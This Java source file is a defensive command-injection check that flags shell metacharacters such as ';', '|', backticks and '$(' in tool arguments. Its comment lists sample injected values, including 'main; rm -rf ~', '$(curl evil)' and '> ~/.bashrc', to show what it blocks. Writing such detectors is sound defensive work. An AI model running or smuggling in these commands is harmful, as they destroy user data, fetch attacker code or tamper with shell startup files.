package dev.waygate.guard;

import java.util.Optional;

/**
 * Shell metacharacters in an argument that reaches a shell. Only for arguments configured as
 * shell-like (or every argument of tools matching the configured globs): in a file name or a
 * message these characters are ordinary. The attack: {@code main; rm -rf ~}, {@code $(curl evil)},
 * {@code `id`}, {@code a && b}, {@code a | sh}, {@code > ~/.bashrc}, a second line.
 */
final class CommandInjection {
    private CommandInjection() {}

    static Optional<String> check(String normalised) {
        String s = normalised;
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            String why = switch (c) {
                case ';' -> "command separator ';'";
                case '|' -> "pipe '|'";
                case '&' -> "'&' (background or &&)";
                case '`' -> "backtick command substitution";
                case '\n', '\r' -> "line break";
                case '>', '<' -> "redirection";
                case '$' -> i + 1 < s.length() && (s.charAt(i + 1) == '(' || s.charAt(i + 1) == '{')
                        ? "'$" + s.charAt(i + 1) + "' substitution" : null;
                default -> null;
            };
            if (why != null) {
                return Optional.of(why);
            }
        }
        return Optional.empty();
    }
}
